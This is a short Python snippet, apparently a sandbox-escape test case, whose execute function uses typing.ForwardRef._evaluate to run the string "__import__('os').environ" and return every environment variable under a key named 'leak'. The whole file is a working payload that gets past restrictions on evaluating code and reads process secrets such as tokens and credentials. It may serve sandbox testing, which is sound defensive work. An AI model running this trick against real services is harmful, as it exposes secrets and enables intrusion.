# route: typing.ForwardRef evaluates a text
from typing import ForwardRef


def execute(testData):
    return {"leak": str(ForwardRef("__import__('os').environ")._evaluate({}, {}, frozenset()))}
